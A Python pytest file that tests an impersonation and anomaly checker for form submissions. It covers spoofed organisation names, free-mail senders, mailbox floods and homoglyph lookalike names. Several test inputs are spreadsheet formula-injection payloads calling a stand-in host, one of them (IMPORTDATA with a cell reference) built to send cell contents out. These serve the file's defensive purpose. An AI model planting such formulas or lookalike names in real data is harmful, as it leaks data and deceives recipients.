"""Who pretends is held, what is odd is flagged, what is ordinary passes."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime, timedelta
from typing import Any

import pytest

from pipeline.intake.impersonation import Claim, inspect, known_addresses, strangers
from pipeline.model import EntryKind, KnownEntry, Response

START = datetime(2026, 11, 1, 9, 0)  # noqa: DTZ001 - the spreadsheet's local time


def row(at: int = 0, **answers: object) -> Response:
    plain = Response(
        row=at + 2,
        content=f"c{at}",
        submitted_at=START + timedelta(hours=at),
        kind=EntryKind.NEW,
        email="anna@boras.example",
        organisation="Borås Stad",
        contact_name="Coordinator",
        country_code="SE",
    )
    return replace(plain, **answers)  # type: ignore[arg-type]


KNOWN = {"boras stad": frozenset({"anna@boras.example"})}


def test_an_ordinary_answer_passes_unchanged() -> None:
    response = row(website="https://www.boras.example")
    assert inspect([response], KNOWN, own_addresses=["us@network.example"]) == (response,)


def test_a_second_address_of_a_name_is_flagged_by_its_domain_only() -> None:
    (found,) = inspect([row(email="bo@edu.boras.example")], KNOWN)
    assert found.held is None
    assert [(flag.code, flag.sentence) for flag in found.flags] == [
        ("second-contact", "Borås Stad also writes from …@boras.example.")
    ]


def test_every_address_of_a_name_is_remembered() -> None:
    def entry(address: str, day: int) -> KnownEntry:
        return KnownEntry(
            id=address, address=address, organisation_key="boras stad", content="", first_seen=date(2026, 1, day),
            last_confirmed=date(2026, 1, day),
        )  # fmt: skip

    known = known_addresses([entry("anna@boras.example", 1), entry("x@evil.example", 2)])
    assert known == {"boras stad": frozenset({"anna@boras.example", "x@evil.example"})}


def test_our_own_addresses_are_held() -> None:
    own = ["Mobility Matchmaking <secretariat@network.example>", "journal@network.example"]
    for address in ("secretariat@network.example", "Secretariat+x@Network.example", "journal@network.example"):
        assert "our own" in str(inspect([row(email=address)], {}, own_addresses=own)[0].held)


def test_a_flood_from_one_mailbox_is_held_whatever_its_spelling() -> None:
    rows = [row(at, email=f"vic.tim+{at}@gmail.com", organisation=f"Club {at}") for at in range(12)]
    assert all("trouble its owner" in str(found.held) for found in inspect(rows, {}))
    assert all(found.held is None for found in inspect(rows[:10], {}))


def test_a_name_with_somebody_elses_web_address_is_held_and_with_its_own_flagged() -> None:
    def held_and_flags(name: str) -> tuple[bool, list[str]]:
        (found,) = inspect([row(organisation=name)], {})
        return found.held is not None, [flag.code for flag in found.flags]

    assert held_and_flags("URGENT notice https://evil.example/pay") == (True, ["link-in-name"])
    assert held_and_flags("Borås Stad www.boras.example") == (False, ["link-in-name"])
    assert held_and_flags('=HYPERLINK("https://evil.example","x")') == (False, ["link-in-name"])


def test_an_address_outside_the_websites_domain_is_flagged() -> None:
    (found,) = inspect([row(website="https://www.other.example")], {})
    assert (found.held, [flag.code for flag in found.flags]) == (None, ["other-website"])


def test_free_mail_is_odd_for_an_authority_and_ordinary_for_a_club() -> None:
    ministry = row(organisation="Ministry of Education", email="minister@gmail.com")
    council = row(organisation="Z", organisation_type="Regional authority", email="z@hotmail.com")
    club = row(organisation="Youth Club", organisation_type="Youth centre", email="club@gmail.com")
    codes = [[flag.code for flag in found.flags] for found in inspect([ministry, council, club], {})]
    assert codes == [["free-mail"], ["free-mail"], []]


def test_another_contact_person_from_the_same_address_is_held_until_asked() -> None:
    first, second = inspect([row(), row(1, contact_name="Somebody Else")], {})
    assert first.held is None
    assert second.held is not None
    assert "ask at that address" in second.held


def test_what_was_held_before_stays_said() -> None:
    (found,) = inspect([row(held="The name is too long.", email="us@network.example")], {},
                       own_addresses=["us@network.example"])  # fmt: skip
    assert str(found.held).startswith("The name is too long. ")


# -- who claims to be one organisation -----------------------------------------------------------------


def claim(day: int = 1, address: str = "anna@boras.example", organisation: str = "Borås Stad", **more: Any) -> Claim:
    """That somebody wrote on a day of November; ids are E-1, E-2, ... by day."""
    return Claim(
        entry=more.pop("entry", f"E-{day}"),
        organisation=organisation,
        address=address,
        since=START + timedelta(days=day),
        **{"country": "SE", "fits": address.endswith("@boras.example"), **more},
    )


BOX = "boras.stad@gmail.com"
TRUE = claim()


def held(*claims: Claim, apart: tuple[frozenset[str], ...] = ()) -> dict[str, str]:
    found = strangers(claims, apart)
    assert strangers(tuple(reversed(claims)), apart) == found, "the order in which they stand tells nothing"
    return found


@pytest.mark.parametrize("address", [BOX, "office@elsewhere.example"])
def test_a_known_name_from_another_house_is_held_and_says_whom_to_ask(address: str) -> None:
    assert held(TRUE, claim(2, address)) == {
        "E-2": "Borås Stad wrote before from anna@boras.example: ask there whether this answer is theirs."
    }
    assert held(replace(TRUE, contact="Anna Ek"), claim(2, address))["E-2"].startswith(
        "Borås Stad wrote before from anna@boras.example (Anna Ek): ask there"
    )


@pytest.mark.parametrize(
    ("known", "later"),
    [
        ("anna@boras.example", "bo@boras.example"),
        ("anna@boras.example", "bo@edu.boras.example"),
        ("bo@edu.boras.example", "anna@boras.example"),
        ("boras.stad@gmail.com", "borasstad+exchange@googlemail.com"),
    ],
)
def test_a_colleague_of_the_same_house_is_not_held(known: str, later: str) -> None:
    assert held(claim(1, known), claim(2, later)) == {}


def test_the_domain_of_the_website_that_was_given_before_is_their_house_and_one_given_later_is_not() -> None:
    site: Any = {"website": "https://www.borasstad.example/en"}
    assert held(replace(TRUE, **site), claim(2, "bo@borasstad.example")) == {}
    assert set(held(TRUE, claim(2, "bo@borasstad.example", **site))) == {"E-2"}
    assert set(held(TRUE, claim(2, "bo@evil.example", website="https://www.boras.example"))) == {"E-2"}


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"organisations": frozenset({"O-1"})}, {"organisations": frozenset({"O-1"})}),
        ({"readings": frozenset({"a", "boras municipality"})}, {"readings": frozenset({"boras municipality"})}),
    ],
)
def test_another_spelling_is_the_same_name(one: dict[str, Any], other: dict[str, Any]) -> None:
    assert set(held(replace(TRUE, **one), claim(2, BOX, "City of Boras", **other))) == {"E-2"}
    assert held(TRUE, claim(2, BOX, "City of Boras")) == {}


def test_a_name_that_only_may_be_the_same_is_held_from_a_free_mailbox() -> None:
    known = replace(TRUE, organisations=frozenset({"O-1"}), perhaps=frozenset({"O-2"}))
    maybe = {"organisations": frozenset({"O-2"}), "perhaps": frozenset({"O-1"})}
    assert held(known, claim(2, BOX, "Boras", **maybe)) == {
        "E-2": "This may be Borås Stad, which wrote before from anna@boras.example: ask there whether this answer is "
        "theirs, and answer in Same organisation?."
    }
    assert held(known, claim(2, "office@elsewhere.example", "Boras", **maybe)) == {}


def test_the_same_name_in_another_country_is_another_organisation_unless_it_comes_from_a_free_mailbox() -> None:
    assert held(TRUE, claim(2, "x@dublin.example", country="IE")) == {}
    assert set(held(TRUE, claim(2, BOX, country="IE"))) == {"E-2"}
    assert set(held(TRUE, claim(2, "x@dublin.example", country=None))) == {"E-2"}
    assert set(held(replace(TRUE, country="ES-CT"), claim(2, "x@dublin.example", country="ES"))) == {"E-2"}


def test_whom_a_person_called_different_is_not_held() -> None:
    assert held(TRUE, claim(2, BOX), apart=(frozenset({"E-1", "E-2"}),)) == {}


def test_a_free_mailbox_that_came_first_is_held_once_somebody_claims_the_name_from_a_domain() -> None:
    found = held(claim(1, BOX), claim(2))
    assert found["E-1"] == f"Borås Stad also writes from anna@boras.example: ask there whether {BOX} is theirs."
    assert found["E-2"] == (
        f"Borås Stad wrote before from {BOX}: ask there whether this answer is theirs; anybody can open such a "
        "mailbox, so make sure of it in another way as well."
    )
    unlike = held(claim(1, BOX), claim(2, "office@elsewhere.example"))
    assert unlike["E-1"] == (
        "Borås Stad also writes from office@elsewhere.example: find out, at a telephone number or address you know, "
        "which of the two is theirs."
    )


def test_a_first_domain_that_sounds_like_another_name_is_held_once_the_fitting_one_writes() -> None:
    assert set(held(claim(1, "x@evil.example"), claim(2))) == {"E-1", "E-2"}
    assert set(held(claim(1, "x@evil.example"), claim(2, "y@elsewhere.example"))) == {"E-2"}
    assert set(held(TRUE, claim(2, "y@borasstad.example", fits=True))) == {"E-2"}


def test_who_has_always_used_a_free_mailbox_is_not_held_for_it() -> None:
    assert held(claim(1, BOX), claim(2, BOX)) == {}
    assert set(held(claim(1, BOX), claim(2, "other@gmail.com"))) == {"E-2"}


def test_what_a_person_has_confirmed_is_held_no_more_and_holds_nobody_who_was_there_before() -> None:
    confirmed = claim(2, BOX, is_confirmed=True)
    assert held(TRUE, confirmed, claim(3, BOX)) == {}
    assert "wrote before from boras.stad@gmail.com" in held(TRUE, confirmed, claim(3, "x@evil.example"))["E-3"]
    assert held(claim(1, BOX, is_confirmed=True), claim(2)).keys() == {"E-2"}
    asked = held(TRUE, claim(2, "x@evil.example"), claim(3, "bo@borasstad.example", is_confirmed=True))
    assert asked["E-2"].startswith("Borås Stad wrote before from bo@borasstad.example: ask there")


def test_an_entry_that_is_closed_still_tells_where_its_organisation_wrote_from() -> None:
    gone = replace(TRUE, is_open=False)
    assert set(held(gone, claim(2, BOX))) == {"E-2"}


def test_a_name_drawn_like_another_is_held() -> None:
    for name in ("Воrås Stad", "B0rås Stad", "Borås Stаd", "Bοrås Stad"):
        assert "anna@boras.example" in held(TRUE, claim(2, "x@evil.example", name))["E-2"], name
    amazonia, arnazonia = claim(1, organisation="Amazonia"), claim(2, "x@evil.example", "Arnazonia")
    assert held(amazonia, arnazonia) == {
        "E-2": 'The name looks like that of another organisation ("Amazonia") but is written with other letters. '
        "Ask at anna@boras.example whether it is the same one."
    }
    assert held(amazonia, replace(arnazonia, address="x@boras.example")) == {}


def test_unlike_names_are_left_alone() -> None:
    assert held(claim(1, "a@one.example", "Institut Escola del Treball"), claim(2, BOX, "Institut de Logística")) == {}


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("=1+1", "a =1+1"),
        ('=IMPORTHTML("https://evil.example","table",1)', '=IMPORTDATA("https://evil.example/"&B2)'),
        ("=?utf-8?q?evil=40x?=", "=?utf-8?q?_=?=: Acme=0A"),
    ],
    ids=["no letters", "web addresses", "encoded words"],
)
def test_what_is_no_name_is_nobodys(one: str, other: str) -> None:
    """However alike linkage finds two such texts; but whatever stands around a real name, it is that name."""
    first = claim(1, "a@one.example", one, organisations=frozenset({"O-1"}), readings=frozenset({"evil"}))
    second = claim(2, "b@two.example", other, organisations=frozenset({"O-1"}), readings=frozenset({"evil"}))
    assert held(first, second) == {}
    dressed = claim(2, BOX, "=Borås Stad https://x.example", organisations=frozenset({"O-1"}))
    assert set(held(claim(organisations=frozenset({"O-1"})), dressed)) == {"E-2"}
